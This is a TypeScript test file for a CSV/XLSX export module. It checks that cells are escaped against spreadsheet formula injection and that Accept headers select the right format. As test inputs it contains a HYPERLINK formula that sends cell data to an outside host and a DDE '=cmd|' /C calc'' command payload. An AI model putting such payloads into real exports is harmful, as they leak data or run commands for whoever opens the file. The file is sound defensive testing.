import { text } from 'node:stream/consumers';
import type { Readable } from 'node:stream';
import { exportRequest, exportTable, fromArray, type ExportColumn } from './table-export';

interface Row {
  unit: string;
  count: number;
}

const columns: ExportColumn<Row>[] = [
  { heading: { ru: 'Подразделение', kk: 'Бөлімше', en: 'Unit' }, value: (row) => row.unit },
  { heading: { ru: 'Число', kk: 'Саны', en: 'Count' }, value: (row) => row.count },
];

async function csvOf(rows: Row[]): Promise<string> {
  const headers: Record<string, string> = {};
  const file = exportTable(
    { header: (name, value) => (headers[name] = value) },
    { format: 'csv', lang: 'en' },
    'units',
    columns,
    fromArray(rows),
  );
  expect(headers['content-type']).toMatch(/^text\/csv/);
  return (await text(file.getStream() as Readable)).replace(/^\uFEFF/, '');
}

describe('a CSV download', () => {
  // A unit is text a filer chooses: a spreadsheet would run "=HYPERLINK(...)" in the auditor's hands.
  it('writes a cell that a spreadsheet would run as a formula with a leading quote, and numbers as numbers', async () => {
    const csv = await csvOf([
      { unit: '=HYPERLINK("https://example.org/?"&A2,"open")', count: -2 },
      { unit: '+1', count: 3 },
      { unit: '@SUM(A1)', count: 0 },
      { unit: 'astana', count: 1 },
    ]);
    const lines = csv.trim().split('\n');
    expect(lines[0]).toBe('Unit,Count');
    expect(lines[1]).toBe(`"'=HYPERLINK(""https://example.org/?""&A2,""open"")",-2`);
    expect(lines.slice(2)).toEqual(["'+1,3", "'@SUM(A1),0", 'astana,1']);
  });

  // Excel in ru-RU and kk-KZ splits a CSV on ";": a clerk's token name "Иванов;=cmd|…" (the history's actor) and a head's
  // assignee id "emp;=1+1;" (the summary by assignee) were written whole in one cell and became formulas there.
  it("leaves no formula at the start of any piece a reader splitting on ';' or ',' would make a cell of", async () => {
    const csv = await csvOf([
      { unit: "Иванов;=cmd|' /C calc'!A0;", count: 1 },
      { unit: 'emp;=1+1;', count: 2 },
      { unit: 'a, "=HYPERLINK(1)', count: 3 },
      { unit: 'x;\t@SUM(A1);+1;-1;＝1', count: 4 },
      { unit: 'plain;text, as-is', count: 5 },
    ]);
    const rows = csv.trim().split('\n').slice(1);
    for (const line of rows)
      for (const piece of line.split(/[;,]/)) expect(piece.replace(/^[" ]*/, '')).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(rows[0]).toBe("Иванов;'=cmd|' /C calc'!A0;,1");
    expect(rows[4]).toBe('"plain;text, as-is",5');
  });
});

describe('the download an Accept header asks for', () => {
  const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  // Weights were ignored: "text/csv;q=0" (CSV refused) got CSV, and JSON preferred over CSV got CSV too.
  it.each([
    ['text/csv', 'csv'],
    [XLSX, 'xlsx'],
    ['text/csv, */*', 'csv'],
    ['application/json;q=0.5, text/csv', 'csv'],
    [`text/csv;q=0.4, ${XLSX};q=0.9`, 'xlsx'],
    ['text/csv;q=0', null],
    ['application/json, text/csv;q=0.1', null],
    [`${XLSX};q=0, application/json`, null],
    ['application/*, text/csv', null],
    ['*/*', null],
    ['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', null],
    ['text/csv;q=abc', null],
    ['TEXT/CSV;Q=1.000', 'csv'],
  ])('%s: %s', (accept, format) => {
    expect(exportRequest({}, accept)?.format ?? null).toBe(format);
  });

  it('the format parameter wins over any Accept header', () => {
    expect(exportRequest({ format: 'xlsx' }, 'text/csv')).toEqual({ format: 'xlsx', lang: 'ru' });
  });
});
